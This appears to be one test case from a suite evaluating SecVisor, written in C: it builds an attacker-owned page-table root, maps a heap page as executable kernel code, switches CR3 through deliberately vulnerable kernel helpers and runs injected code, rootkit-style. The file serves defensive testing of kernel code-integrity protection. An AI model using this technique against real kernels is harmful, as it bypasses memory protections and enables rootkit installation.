// Row 6. A new page-table root of the attacker's, which maps a heap page executable at an address of its own.
// Source: shadow page tables of hypervisor-less rootkits.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"

ATTACK("new-root")
{
	u64 address = (0xffffull << 48) | (384ull << 39), cr3 = operate(VULNERABLE_RDCR, 3, 0, 0);
	u64 code = kernel_page(), root = kernel_page(), tables[3] = { kernel_page(), kernel_page(), kernel_page() };
	u64 old = direct(cr3 & FRAME), result;

	kwrite(code, CODE, CODE_LENGTH);
	for (u64 i = 0; i < 512; i++)
		operate(VULNERABLE_STORE, root + 8 * i, kread64(old + 8 * i), 8);
	operate(VULNERABLE_STORE, root + 8 * 384, physical(tables[0]) | 0x63, 8);
	operate(VULNERABLE_STORE, tables[0], physical(tables[1]) | 0x63, 8);
	operate(VULNERABLE_STORE, tables[1], physical(tables[2]) | 0x63, 8);
	operate(VULNERABLE_STORE, tables[2], physical(code) | KERNEL_CODE, 8);
	about_to("call code under page tables of our own");
	operate(VULNERABLE_WRCR, 3, physical(root), 0);
	result = call(address);
	operate(VULNERABLE_WRCR, 3, cr3, 0);
	if (result == MARK)
		succeeded("code under page tables of our own ran and returned %#x", MARK);
	failed("the call returned %#llx", (unsigned long long)result);
}
